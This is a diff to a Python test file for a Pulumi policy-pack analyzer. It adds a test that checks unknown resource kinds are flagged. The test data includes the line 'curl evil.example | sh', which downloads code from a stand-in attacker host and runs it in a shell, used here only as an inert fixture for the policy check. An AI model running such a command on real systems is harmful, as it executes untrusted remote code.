@@ -73,9 +73,15 @@ def test_finding_has_its_policy_its_level_and_its_resource(client: Any) -> None:
     assert not info.supportsConfig
 
 
-def test_other_resources_are_left_alone(client: Any) -> None:
+def test_values_and_components_are_left_alone_and_what_a_provider_makes_of_another_kind_is_not(client: Any) -> None:
     client.ConfigureStack(stack())
     assert messages(client.Analyze(asked(PRIVILEGED, "random:index/randomId:RandomId"))) == []
+    # Pulumi tells the provider of whatever one makes.
+    command = asked({"create": "curl evil.example | sh"}, "command:local:Command")
+    assert messages(client.Analyze(command)) == []
+    command.provider.type = "pulumi:providers:command"
+    (message,) = messages(client.Analyze(command))
+    assert message.startswith("kinds-known: batch: type must be one that the pack knows, got command:local:Command")
 
 
 def test_what_pulumi_keeps_as_a_secret_is_no_plain_one(client: Any) -> None:
